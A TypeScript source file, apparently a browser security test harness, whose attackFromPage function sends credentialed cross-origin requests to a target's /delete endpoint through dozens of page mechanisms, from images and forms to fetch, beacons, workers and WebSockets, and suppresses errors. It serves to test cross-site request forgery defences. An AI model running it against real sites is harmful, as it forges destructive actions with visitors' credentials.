/** Everything by which a page makes a browser ask for an address of another origin, but a whole tab by GET. */

/** Chromium asks for these when it has a window, or feels like it. */
export const AT_WILL = ["manifest", "speculative-prefetch", "speculative-prerender"];

/**
 * Runs in the page. Each asks for /delete?via=NAME at the target.
 * @returns the names
 */
export async function attackFromPage(target: string): Promise<string[]> {
  const names: string[] = [];
  const at = (name: string) => {
    names.push(name);
    return `${target}/delete?via=${name}`;
  };
  const add = (tag: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const frame = (name: string) => add("iframe", { name });
  const form = (method: string, name: string, goes: string) => {
    const element = add("form", { method, action: at(name), target: goes }) as HTMLFormElement;
    // A form that is sent by GET takes the place of the query.
    element.append(Object.assign(document.createElement("input"), { name: "via", value: name }));
    element.submit();
  };
  const quietly = (run: () => unknown) => {
    try {
      const outcome = run();
      if (outcome instanceof Promise) outcome.catch(() => {});
    } catch {
      // Blocked is one way of not arriving.
    }
  };

  add("img", { src: at("img") });
  add("img", { srcset: `${at("srcset")} 1x` });
  add("script", { src: at("script") });
  add("script", { src: at("module"), type: "module", crossorigin: "use-credentials" });
  add("link", { rel: "stylesheet", href: at("stylesheet") });
  add("style", {}, `@import url("${at("css-import")}");`);
  add("style", {}, `@font-face { font-family: f; src: url("${at("font")}"); } body { font-family: f; }`);
  add("div", { style: `background: url("${at("css-image")}"); width: 9px; height: 9px` });
  add("iframe", { src: at("iframe") });
  add("iframe", { srcdoc: `<img src="${at("srcdoc")}">` });
  add("object", { data: at("object") });
  add("embed", { src: at("embed") });
  add("video", { src: at("video"), preload: "auto" });
  add("audio", { src: at("audio"), preload: "auto" });
  add("video", { poster: at("poster") });
  add("input", { type: "image", src: at("input") });
  add("link", { rel: "prefetch", href: at("prefetch") });
  add("link", { rel: "preload", as: "image", href: at("preload") });
  add("link", { rel: "modulepreload", href: at("modulepreload"), crossorigin: "use-credentials" });
  add("link", { rel: "manifest", href: at("manifest"), crossorigin: "use-credentials" });
  for (const [rule, name] of [
    ["prefetch", "speculative-prefetch"],
    ["prerender", "speculative-prerender"],
  ] as const)
    add(
      "script",
      { type: "speculationrules" },
      JSON.stringify({ [rule]: [{ source: "list", urls: [at(name)], eagerness: "immediate" }] }),
    );
  frame("one");
  frame("two");
  form("get", "form-get-in-frame", "one");
  form("post", "form-post-in-frame", "two");
  form("post", "form-post", "_blank");
  (add("a", { href: "#here", ping: at("ping") }) as HTMLAnchorElement).click();
  const include = { credentials: "include" } as const;
  quietly(() => fetch(at("fetch-no-cors"), { ...include, mode: "no-cors" }));
  quietly(() => fetch(at("fetch-cors"), include));
  quietly(() => fetch(at("fetch-text"), { ...include, headers: { accept: "text/html" } }));
  quietly(() => fetch(at("fetch-keepalive"), { ...include, mode: "no-cors", keepalive: true }));
  quietly(() => fetch(at("fetch-head"), { ...include, mode: "no-cors", method: "HEAD" }));
  quietly(() => fetch(at("fetch-post"), { ...include, mode: "no-cors", method: "POST", body: "x" }));
  quietly(() => fetch(at("fetch-put"), { ...include, method: "PUT", body: "x" }));
  quietly(() => navigator.sendBeacon(at("beacon"), "x"));
  quietly(() => import(/* webpackIgnore: true */ at("dynamic-import")));
  quietly(() => new EventSource(at("event-source"), { withCredentials: true }));
  quietly(() => new WebSocket(at("socket").replace(/^http/, "ws")));
  const source = `try { importScripts("${at("worker-import")}") } catch {}
    fetch("${at("worker-fetch")}", { mode: "no-cors", credentials: "include" }).catch(() => {});`;
  quietly(() => new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" }))));
  const request = new XMLHttpRequest();
  request.withCredentials = true;
  request.open("POST", at("xhr"));
  request.send("x");
  await new Promise((resolve) => setTimeout(resolve, 3_000));
  return names;
}
